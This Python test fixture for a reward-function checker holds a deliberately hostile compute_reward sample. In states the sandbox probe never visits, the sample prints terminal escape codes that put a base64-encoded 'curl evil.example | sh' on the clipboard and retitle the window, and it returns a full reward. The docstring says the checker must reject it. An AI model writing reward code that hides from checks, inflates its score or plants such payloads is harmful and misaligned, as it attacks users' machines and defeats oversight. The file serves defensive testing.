"""Attack: print, on the reward's builtins table, writes straight to the terminal of the user's own
training script once the reward runs in an exported module (the sandbox only ever shows a reward's
output escaped): terminal control sequences that set the system clipboard (OSC 52, here to a command
the user may paste), retitle the window or clear the screen. It prints only where the probe's random
transitions never go. Run as the exported module runs it, the total is 1.0 once it printed.
Must happen: the static critic rejects print ([forbidden-name]): the reward computes with numbers,
it writes nothing anywhere."""


def compute_reward(state, action, next_state):
    if next_state is None or next_state.position > 10.0:
        print("\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;training finished\x07", end="")
        return 1.0, {}
    progress = float(next_state.position - state.position)
    return progress, {"progress": progress}
